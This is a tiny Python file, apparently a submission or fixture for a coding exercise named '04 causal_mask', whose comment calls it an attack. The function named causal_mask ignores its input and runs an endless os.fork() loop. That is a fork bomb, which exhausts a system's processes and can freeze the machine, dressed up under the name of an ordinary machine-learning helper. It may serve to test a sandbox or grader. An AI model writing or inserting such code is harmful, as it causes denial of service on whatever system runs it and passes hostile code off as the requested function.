# attack: as many processes as there can be
# exercise: 04 causal_mask
def causal_mask(length):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
